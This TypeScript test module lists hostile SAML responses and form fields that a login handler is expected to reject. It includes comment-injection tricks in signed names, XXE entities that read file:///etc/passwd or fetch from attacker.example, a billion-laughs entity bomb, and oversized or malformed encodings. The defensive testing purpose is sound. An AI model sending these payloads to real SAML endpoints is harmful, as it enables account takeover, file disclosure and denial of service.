/** Responses that must be refused for their text, their encoding or their size, whoever signed them. */
import { deflateRawSync } from 'node:zlib'
import { base64, PERSON, responseWith, signedResponse } from './saml-kit.ts'
import type { Vector } from './saml-hostile.ts'

const DTD = (inside: string) => () => `<!DOCTYPE Response ${inside}>${signedResponse()}`
const odd = /elements only|entity|well-formed|character/
const named = (text: string) => () =>
  signedResponse().replace(`>${PERSON}</saml:NameID>`, `>${text}</saml:NameID>`)

const LAUGHS = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')

export const TEXTS: Vector[] = [
  // Signed with the comment: canonicalization drops it, and some readers stop there.
  ['a comment that ends a name', () => signedResponse({ nameID: `${PERSON}<!---->.attacker.example` }), odd],
  ['a comment in a name, put there afterwards', named('ada@example.com<!-- x -->'), odd],
  [
    'a comment in an attribute',
    () => signedResponse({ attributes: [['email', 'a<!---->@example.com']] }),
    odd,
  ],
  [
    'a comment in the audience',
    () => signedResponse({ audiences: [['https://docs.example.com<!---->']] }),
    odd,
  ],
  ['a comment in the issuer', () => signedResponse({ issuer: 'https://idp.example.com/<!---->saml' }), odd],
  ['a comment before the response', () => `<!-- x -->${signedResponse()}`, odd],
  ['a comment after the response', () => `${signedResponse()}<!-- x -->`, odd],
  [
    'a comment in a signature',
    () => signedResponse().replace('<ds:SignedInfo>', '<ds:SignedInfo><!-- -->'),
    odd,
  ],
  [
    'a comment in the value of a digest',
    () => signedResponse().replace('<ds:DigestValue>', '<ds:DigestValue><!--x-->'),
    odd,
  ],
  ['a processing instruction in a name', named('ada@example.com<?x?>'), odd],
  ['a processing instruction at the start', () => `<?xml-stylesheet href="x"?>${signedResponse()}`, odd],
  ['CDATA in a name', named(`<![CDATA[${PERSON}]]>`), odd],
  ['CDATA around markup', named('<![CDATA[<saml:NameID>]]>victim@example.com'), odd],
  ['an entity of HTML in a name', named('ada&nbsp;@example.com'), odd],
  ['an entity without an end', named('ada&amp@example.com'), odd],
  ['an ampersand by itself', named('ada & co'), odd],
  ['the number of a null character', named('ada@example.com&#0;'), odd],
  ['the number of a line break', named('ada@example.com&#xA;'), odd],
  ['the number of half a character', named('&#xD800;ada@example.com'), odd],
  ['a number beyond Unicode', named('&#x110000;ada@example.com'), odd],
  ['a null character', named('ada@example.com\0.attacker.example'), odd],
  ['another control character', named('ada\u0008@example.com'), odd],
  ['a document type', DTD(''), odd],
  ['a document type in lower case', () => `<!doctype Response>${signedResponse()}`, odd],
  [
    'a document type after the declaration',
    () => `<?xml version="1.0"?><!DOCTYPE x>${signedResponse()}`,
    odd,
  ],
  ['a document type from elsewhere', DTD('SYSTEM "http://attacker.example/x.dtd"'), odd],
  ['a public document type', DTD('PUBLIC "-//X" "file:///etc/passwd"'), odd],
  ['an entity of the document', DTD('[<!ENTITY x "victim@example.com">]'), odd],
  ['an entity from a file', DTD('[<!ENTITY x SYSTEM "file:///etc/passwd">]'), odd],
  ['a parameter entity', DTD('[<!ENTITY % x SYSTEM "http://attacker.example/"> %x;]'), odd],
  ['entities inside entities (billion laughs)', DTD(`[<!ENTITY l0 "ha">${LAUGHS}]`), odd],
  ['one long entity, many times', DTD(`[<!ENTITY a "${'a'.repeat(50_000)}">]`), odd],
  [
    'an attribute that the document type makes an id',
    DTD('[<!ATTLIST saml:NameID Format ID #IMPLIED>]'),
    odd,
  ],
]

const large = /bytes|levels|tags|namespaces/
const encoded = /base64|UTF-8|well-formed|not a SAML response|SAMLResponse|elements only|character/

/** These are the field of the form itself. */
export const FIELDS: Vector[] = [
  ['nothing', '', encoded],
  ['text that is not base64', '<samlp:Response/>', encoded],
  [
    'base64 for URLs',
    () => Buffer.from(`${signedResponse()}>>>???`).toString('base64url').replace(/$/, '-_'),
    encoded,
  ],
  ['base64 that is cut', () => base64(signedResponse()).slice(0, -1), encoded],
  ['base64 of nothing', '====', encoded],
  [
    'bytes that are not UTF-8',
    () => Buffer.concat([Buffer.from(signedResponse()), Buffer.of(0xff, 0xfe)]).toString('base64'),
    encoded,
  ],
  ['UTF-16', () => Buffer.from(signedResponse(), 'utf16le').toString('base64'), encoded],
  ['a compressed response', () => deflateRawSync(signedResponse()).toString('base64'), encoded],
  ['plain text', () => base64('hello'), encoded],
  ['HTML', () => base64('<html><body>Signed in</body></html>'), encoded],
  ['a response that is cut', () => base64(signedResponse().slice(0, -20)), encoded],
  [
    'two responses',
    () => base64(signedResponse() + signedResponse()),
    /well-formed|several|twice|another response/,
  ],
  ['text after the response', () => base64(`${signedResponse()}text`), /well-formed|valid/],
  ['a tag that is not closed', () => base64(signedResponse().replace('</saml:Subject>', '')), /well-formed/],
  [
    'an attribute that is there twice',
    () => base64(signedResponse().replace('Version="2.0"', 'Version="2.0" Version="2.0"')),
    /well-formed|valid/,
  ],
  [
    'a prefix without a namespace',
    () => base64(signedResponse().replace('<saml:Subject>', '<saml:Subject x:a="b">')),
    /well-formed|valid/,
  ],
  ['more than 128 kB', () => base64(signedResponse({ attributes: [['a', 'a'.repeat(130_000)]] })), large],
  ['15 levels', () => base64(responseWith({ extensions: '<a>'.repeat(15) + '</a>'.repeat(15) })), large],
  [
    '100,000 characters of levels',
    () => base64(responseWith({ extensions: '<a>'.repeat(15_000) + '</a>'.repeat(15_000) })),
    large,
  ],
  ['10,000 empty tags', () => base64(responseWith({ extensions: '<a/>'.repeat(10_000) })), large],
  [
    'a hundred namespaces of one element',
    () =>
      base64(
        responseWith({
          extensions: `<a${Array.from({ length: 100 }, (_, i) => ` xmlns:n${i}="urn:${i}"`).join('')}/>`,
        }),
      ),
    large,
  ],
  [
    'a tag of 10,000 characters',
    () => base64(responseWith({ extensions: `<a b="${'c'.repeat(10_000)}"/>` })),
    /tag of more than/,
  ],
]
